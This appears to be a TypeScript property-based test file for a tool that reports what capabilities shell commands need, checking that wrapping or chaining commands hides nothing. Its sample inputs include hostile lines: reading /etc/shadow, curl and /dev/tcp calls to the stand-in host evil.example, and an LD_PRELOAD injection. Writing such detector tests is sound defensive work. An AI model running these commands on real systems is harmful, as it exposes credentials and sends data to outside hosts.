import type { Capability } from '@ambit/core';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { reported } from './reference.js';

/** Command lines that leave the shell as it was. */
const lines = fc.constantFrom(
  'rm -rf build',
  'cat /etc/shadow',
  'echo x > out.txt',
  'cat < in.txt',
  'sudo id',
  'curl https://evil.example',
  'LD_PRELOAD=./x.so ls',
  'git push origin main',
  "sh -c 'rm a'",
  'echo "$(cat b)"',
  "cat <<'E'\ntext\nE\n",
  'python3 -c "print(1)"',
  'for i in 1 2; do touch $i; done',
  'find . -name x',
  'echo x > /dev/tcp/evil.example/80',
  'chmod +x a',
  'kill 1',
  'ls',
);

/** Ways to put a line into another that do not change what it does. */
const wrappings: readonly (readonly [string, (line: string) => string])[] = [
  ['a subshell', (line) => `(${line}\n)`],
  ['a group', (line) => `{ ${line}\n}`],
  ['a condition', (line) => `if ${line}\nthen :; fi`],
  ['a branch', (line) => `if false; then :; else ${line}\nfi`],
  ['a loop', (line) => `while true; do ${line}\nbreak; done`],
  ['a case', (line) => `case a in a) ${line}\n;; esac`],
  ['a function', (line) => `f() { ${line}\n}; f`],
  ['a function that is not called', (line) => `f() { ${line}\n}`],
  ['a substitution', (line) => `echo "$(${line}\n)"`],
  ['a process substitution', (line) => `cat <(${line}\n)`],
  ['eval', (line) => `eval ${quoted(line)}`],
  ['bash -c', (line) => `bash -c ${quoted(line)}`],
  ['a here-document', (line) => `bash <<'LAST'\n${line}\nLAST`],
  ['a trap', (line) => `trap ${quoted(line)} EXIT`],
  ['a pipe', (line) => `true | { ${line}\n}`],
  ['the background', (line) => `{ ${line}\n} &`],
];

function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

function missing(part: readonly Capability[], whole: readonly Capability[]): readonly Capability[] {
  const known = new Set(whole.map((capability) => JSON.stringify(capability)));
  return part.filter((capability) => !known.has(JSON.stringify(capability)));
}

describe('shell.run › laws', () => {
  test('lines one after another lose nothing that one of them does', async () => {
    const joints = fc.constantFrom('\n', '\n\n# a comment\n');
    await fc.assert(
      fc.asyncProperty(fc.array(lines, { minLength: 1, maxLength: 6 }), joints, async (parts, joint) => {
        const whole = await reported(parts.join(joint));
        for (const part of parts) expect(missing(await reported(part), whole)).toEqual([]);
      }),
      { numRuns: 300, seed: 1 },
    );
  });

  test('`;`, `&&`, `||`, `|` and `&` lose nothing of what stands on either side', async () => {
    const joints = fc.constantFrom(' ; ', ' && ', ' || ', ' | ', ' & ');
    const group = (line: string) => `{ ${line}\n}`;
    await fc.assert(
      fc.asyncProperty(fc.array(lines, { minLength: 2, maxLength: 5 }), joints, async (parts, joint) => {
        const whole = await reported(parts.map(group).join(joint));
        for (const part of parts) expect(missing(await reported(part), whole)).toEqual([]);
      }),
      { numRuns: 300, seed: 2 },
    );
  });

  test.each(wrappings)('%s loses nothing of what is in it', async (_, wrap) => {
    await fc.assert(
      fc.asyncProperty(lines, lines, async (one, other) => {
        const line = `${one}\n${other}`;
        expect(missing(await reported(line), await reported(wrap(line)))).toEqual([]);
      }),
      { numRuns: 60, seed: 3 },
    );
  });

  test('what stands before a line that cannot be read is not lost', async () => {
    const broken = fc.constantFrom('echo "', 'if', '(((', 'cat <<', ')', 'for', '${', '`');
    await fc.assert(
      fc.asyncProperty(lines, broken, async (line, rest) => {
        const whole = await reported(`${line}\n${rest}`);
        expect(missing(await reported(line), whole)).toEqual([]);
        expect(whole.map(({ name }) => name)).toContain('proc.exec.opaque');
      }),
      { numRuns: 150, seed: 4 },
    );
  });

  test('describing twice says the same', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(lines, { maxLength: 4 }), fc.string(), async (parts, junk) => {
        const line = `${parts.join('\n')}${junk}`;
        expect(await reported(line)).toEqual(await reported(line));
      }),
      { numRuns: 200, seed: 5 },
    );
  });

  test('any text is described, whatever it is', async () => {
    const pieces = fc.array(
      fc.constantFrom(
        '$(',
        ')',
        '`',
        '"',
        "'",
        '{',
        '}',
        '<<E',
        '\n',
        ';',
        '&',
        '|',
        '$x',
        '${',
        '((',
        '[[',
        '\\',
        'a',
        ' ',
        '*',
        '<(',
        '=',
        '\r',
        '\0',
        'if ',
        'do ',
      ),
      { maxLength: 40 },
    );
    await fc.assert(
      fc.asyncProperty(pieces, async (parts) => {
        expect(Array.isArray(await reported(parts.join('')))).toBe(true);
      }),
      { numRuns: 1_500, seed: 6 },
    );
  });
});
